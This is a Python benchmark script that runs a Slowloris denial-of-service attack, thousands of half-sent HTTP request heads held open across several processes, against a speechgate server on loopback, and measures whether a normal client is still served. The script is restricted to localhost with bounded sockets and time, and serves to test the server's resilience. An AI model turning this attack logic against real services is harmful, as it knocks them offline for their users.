"""Slowloris against a running speechgate on loopback: is a normal client still served?

    .venv/bin/speechgate serve --engine espeak --port 8765 &
    .venv/bin/python bench/slowloris.py --url http://127.0.0.1:8765 --sockets 20000 --seconds 60

Attacker processes keep `--sockets` connections open for `--seconds`, each having sent half a
request head and nothing more; whenever the server closes one, it is opened again at once.
Meanwhile a normal client asks for speech once a second (and `/readyz`). Prints how many
normal requests were served, their latency, and what the attackers saw.

Loopback only (the URL must name 127.0.0.1 or localhost), with bounded sockets and time. The
attacker processes raise their own file-descriptor limit to the hard limit; the server keeps
its own. Nothing here asserts anything: it reports.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import math
import multiprocessing
import resource
import statistics
import time
from dataclasses import dataclass
from urllib.parse import urlsplit

import httpx

HALF_HEAD = b"POST /v1/audio/speech HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: appl"
MAX_SOCKETS = 50_000
MAX_SECONDS = 600.0
SOCKETS_PER_PROCESS = 8000  # stays under common hard limits of 10k+ descriptors
CONNECTING_AT_ONCE = 256
SPEECH = {"model": "tts-1", "voice": "alloy", "input": "Still served?", "response_format": "wav"}


@dataclass
class AttackStats:
    opened: int = 0
    closed_by_server: int = 0
    refused: int = 0  # connect() failed (backlog full, out of descriptors, ...)
    peak_open: int = 0
    open_now: int = 0


async def _attack(host: str, port: int, sockets: int, until: float) -> AttackStats:
    stats = AttackStats()
    connecting = asyncio.Semaphore(CONNECTING_AT_ONCE)

    async def hold_one() -> None:
        while time.monotonic() < until:
            try:
                async with connecting:
                    reader, writer = await asyncio.open_connection(host, port)
                    writer.write(HALF_HEAD)
                    await writer.drain()
            except OSError:
                stats.refused += 1
                await asyncio.sleep(0.1)  # backs off only on errors of its own
                continue
            stats.opened += 1
            stats.open_now += 1
            stats.peak_open = max(stats.peak_open, stats.open_now)
            try:
                async with asyncio.timeout(max(0.0, until - time.monotonic())):
                    await reader.read(1)  # b"" (or a reset) when the server closes it
                stats.closed_by_server += 1
            except TimeoutError:
                pass
            except OSError:
                stats.closed_by_server += 1
            finally:
                stats.open_now -= 1
                writer.close()

    await asyncio.gather(*(hold_one() for _ in range(sockets)))
    return stats


def _attacker(host: str, port: int, sockets: int, until: float, out: multiprocessing.Queue) -> None:  # type: ignore[type-arg]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    out.put(asyncio.run(_attack(host, port, sockets, until)))


def _percentile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, math.ceil(q * len(ordered)) - 1)]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--url", default="http://127.0.0.1:8000")
    parser.add_argument("--sockets", type=int, default=20_000)
    parser.add_argument("--seconds", type=float, default=60.0)
    args = parser.parse_args()
    parts = urlsplit(args.url)
    if parts.hostname not in ("127.0.0.1", "localhost") or parts.port is None:
        parser.error("--url must be http://127.0.0.1:PORT (loopback only)")
    if not 1 <= args.sockets <= MAX_SOCKETS or not 0 < args.seconds <= MAX_SECONDS:
        parser.error(f"--sockets 1..{MAX_SOCKETS}, --seconds up to {MAX_SECONDS:g}")

    processes = math.ceil(args.sockets / SOCKETS_PER_PROCESS)
    shares = [args.sockets // processes + (i < args.sockets % processes) for i in range(processes)]
    context = multiprocessing.get_context("spawn")
    results: multiprocessing.Queue = context.Queue()  # type: ignore[type-arg]
    until = time.monotonic() + args.seconds
    attackers = [
        context.Process(target=_attacker, args=(parts.hostname, parts.port, share, until, results))
        for share in shares
    ]
    for process in attackers:
        process.start()

    latencies: list[float] = []
    failures: dict[str, int] = {}
    ready = 0
    asked = 0
    with httpx.Client(timeout=10.0) as client:
        next_at = time.monotonic() + 1.0
        while next_at < until:
            time.sleep(max(0.0, next_at - time.monotonic()))
            next_at += 1.0
            asked += 1
            sent = time.monotonic()
            try:
                # A new connection each time, as a new client would open.
                response = httpx.post(f"{args.url}/v1/audio/speech", json=SPEECH, timeout=10.0)
                if response.status_code == 200 and response.content[:4] == b"RIFF":
                    latencies.append(time.monotonic() - sent)
                else:
                    failures[f"status {response.status_code}"] = (
                        failures.get(f"status {response.status_code}", 0) + 1
                    )
            except httpx.HTTPError as error:
                failures[type(error).__name__] = failures.get(type(error).__name__, 0) + 1
            with contextlib.suppress(httpx.HTTPError):
                ready += client.get(f"{args.url}/readyz").status_code == 200

    stats = [results.get(timeout=60) for _ in attackers]
    for process in attackers:
        process.join()

    print(f"attack: {args.sockets} half-sent sockets for {args.seconds:g} s, {processes} processes")
    closed = sum(s.closed_by_server for s in stats)
    print(
        f"  opened {sum(s.opened for s in stats)}, closed by the server {closed}, "
        f"connect errors {sum(s.refused for s in stats)}, "
        f"peak open {sum(s.peak_open for s in stats)} (sum of per-process peaks)"
    )
    print(f"normal client: {len(latencies)}/{asked} speech requests served, /readyz 200 {ready}x")
    if latencies:
        ms = [1000 * value for value in latencies]
        print(
            f"  latency ms: p50 {statistics.median(ms):.0f}, p95 {_percentile(ms, 0.95):.0f}, "
            f"max {max(ms):.0f}"
        )
    if failures:
        print(f"  failures: {failures}")


if __name__ == "__main__":
    main()
